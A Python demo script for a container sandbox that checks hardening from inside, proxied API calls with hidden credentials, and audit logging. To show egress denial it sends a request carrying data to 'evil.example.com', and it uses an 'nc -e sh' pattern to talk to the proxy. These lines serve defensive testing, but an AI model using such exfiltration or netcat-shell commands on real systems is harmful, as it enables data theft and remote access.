"""What a container is: a whole program, hardened, without a network card, with one way out."""

from __future__ import annotations

import contextlib
import hashlib
import itertools
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING

from clawbox_client import ClawboxError, ContainerState, SyncClient

from examples.demo.engine import AGENT_BASE, Engine, NoContainersError
from examples.demo.outside import CREDENTIAL, describe_egress
from examples.demo.screen import expect, show, step

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from clawbox_client import AuditRow, CommandResult, Container

    from examples.demo.api import Api

SETTINGS = """
[container_policy]
network_allowlist = [{{ host = "{host}", ports = [{port}] }}]
allowed_credentials = ["{credential}"]

[containers]
workspace_root = "workspaces"
pull_policy = "never"
"""

# The small image has no curl: a request as proxies take it, to where HTTP_PROXY says.
_REQUEST = r"""h=${1#*://}; h=${h%%/*}; p=${HTTP_PROXY#http://}; export h
exec nc ${p%:*} ${p#*:} -e sh -c '
printf "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" "$1" "$h"; exec cat >&2' - "$1"
"""

_HARDENING = r"""
printf 'uid=%s\n' "$(id -u)"
grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | while read -r name value; do
  printf '%s%s\n' "${name%:}=" "$value"
done
printf 'network=%s\n' "$(grep : /proc/net/dev | cut -d : -f 1)"
touch /written 2>&1
"""


@dataclass(frozen=True)
class Ground:
    """What containers are made from here."""

    engine: Engine
    image: str

    def fetch(self, url: str) -> list[str]:
        """The command that prints what is at a URL."""
        return ["curl", "-sS", url] if self.image == AGENT_BASE else ["sh", "-c", _REQUEST, "-", url]


@contextlib.contextmanager
def ground() -> Iterator[Ground | str]:
    """What containers are made from; why there are none where there can be none."""
    with contextlib.ExitStack() as stack:
        try:
            engine = Engine()
            found: Ground | str = Ground(engine, stack.enter_context(engine.image()))
        except NoContainersError as error:
            found = str(error)
        yield found


def settings(home: Path, api: Api) -> None:
    """Let containers reach the API, and use its key there."""
    with (home / "config.toml").open("a") as file:
        file.write(SETTINGS.format(host=api.host, port=api.port, credential=CREDENTIAL))


def containers(client: SyncClient, found: Ground | str, api: Api) -> None:
    """Make one, use it, look at it, kill it; where there can be none, say why."""
    if isinstance(found, Ground):
        found = _problem(client) or found
    if isinstance(found, str):
        with step("Containers: not shown, for there can be none here"):
            show("because", found)
        return
    before = _last_row(client)
    with step("A container for whole programs: no network card, no capability, a uid of its own"):
        made = client.spawn(
            "the demo's container",
            image=found.image,
            hold=True,
            network=[f"{api.host}:{api.port}"],
            credentials=[CREDENTIAL],
        )
        show("made", f"{made.container_id} from {made.image}, runtime {made.runtime}")
    _inside(client, made, found, api)
    with step("Kill it"):
        killed = client.kill_container(made.container_id).container
        show(killed.state.name, killed.state_reason)
        client.remove_container(made.container_id)
        expect("it was killed", holds=killed.state is ContainerState.KILLED)
        expect("the engine does not know it any more", holds=not found.engine.knows(made.name))
    _audit(client, made, before)


def _inside(client: SyncClient, made: Container, found: Ground, api: Api) -> None:
    with step("How it is hardened, seen from inside"):
        _hardened(client.run_command(made.container_id, ["sh", "-c", _HARDENING]))
    with step("A program in it calls the API through HTTP_PROXY, with a key that it never sees"):
        answer = client.run_command(made.container_id, found.fetch(f"{api.url}/me"))
        show("it prints", _said(answer))
        expect("the API was sent its key", holds='"key_is_right": true' in _said(answer))
        expect("where the API repeated it, [REDACTED] came", holds="[REDACTED]" in _said(answer))
    with step("Another host is refused, with a reason that can be read"):
        answer = client.run_command(made.container_id, found.fetch("http://evil.example.com/?all=my-data"))
        show("it prints", _said(answer))
        expect("the reason is host_not_allowed", holds="host_not_allowed" in _said(answer))
    with step("Exec, with its input and output streamed"):
        with client.exec(made.container_id, ["sort"]) as process:
            process.write(b"pear\nfig\napple\n")
            process.close_stdin()
            said = b"".join(getattr(event, "data", b"") for event in process)
        show("sort", said.decode())
        ended = process.exited
        expect("it ended with 0", holds=ended is not None and ended.exit_code == 0)
        expect("it sorted", holds=said == b"apple\nfig\npear\n")
    with step("A file copied in, and out again"):
        data = bytes(range(256)) * 4096
        began = time.perf_counter()
        client.write_file(made.container_id, "/workspace/in.bin", data)
        inside = client.run_command(
            made.container_id, ["sh", "-c", "cat in.bin > out.bin; sha256sum out.bin"]
        )
        same = client.read_file(made.container_id, "/workspace/out.bin") == data
        show("1 MiB", f"{inside.stdout.strip()}, in {1000 * (time.perf_counter() - began):.0f} ms")
        expect("it arrived inside", holds=hashlib.sha256(data).hexdigest() in inside.stdout)
        expect("what came out is what went in", holds=same)


def _hardened(answer: CommandResult) -> None:
    *lines, last = answer.stdout.strip().splitlines()
    facts = dict(line.split("=", 1) for line in lines)
    for name, value in facts.items():
        show(name, value.strip())
    show("touch", last)
    expect("it is not root", holds=int(facts["uid"]) > 0)
    expect("it has no capability and cannot gain any", holds=not int(facts["CapEff"] + facts["CapBnd"], 16))
    expect("no program gives it privileges", holds=facts["NoNewPrivs"] == "1")
    expect("its system calls are filtered", holds=facts["Seccomp"] == "2")
    expect("there is no network card", holds=facts["network"].strip() == "lo")
    expect("its root file system cannot be written", holds="Read-only file system" in last)


def _problem(client: SyncClient) -> str:
    """Why the server serves no containers, as it says itself; empty: it does."""
    until = time.monotonic() + 10
    while time.monotonic() < until:
        try:
            if client.is_serving("clawbox.v1.Containers"):
                return ""
        except ClawboxError:
            break  # it never will
        time.sleep(0.02)
    return next((one.detail for one in client.status().components if one.name == "docker"), "")


def _said(answer: CommandResult) -> str:
    """The last line of what a request printed: the body."""
    return [*(answer.stdout or answer.stderr).strip().splitlines(), ""][:-1][-1]


def _last_row(client: SyncClient) -> int:
    with client.watch_audit(after_sequence=0, kinds=["egress"], deadline=10) as stream:
        return max(row.sequence for row in itertools.islice(stream, 3))


def _audit(client: SyncClient, made: Container, after: int) -> None:
    with step("All of that was written down"):
        wanted = ["container_spawn", "egress", "container_kill"]
        rows: list[AuditRow] = []
        with client.watch_audit(after_sequence=after, kinds=wanted, deadline=10) as stream:
            for row in stream:
                rows.append(row)
                if row.kind == "container_kill":
                    break
        for row in rows:
            show(row.decision, _describe(row))
        said = [(row.kind, row.decision) for row in rows]
        expect(
            "there is a row for each",
            holds=said
            == [
                ("container_spawn", "allowed"),
                ("egress", "allowed"),
                ("egress", "denied"),
                ("container_kill", "allowed"),
            ]
            and {row.fields.get("container_id") or row.fields.get("sandbox") for row in rows}
            == {made.container_id},
        )


def _describe(row: AuditRow) -> str:
    if row.kind == "egress":
        return describe_egress(row)
    return f"row {row.sequence}: {row.kind} {row.fields.get('image') or row.fields['container_id']}"
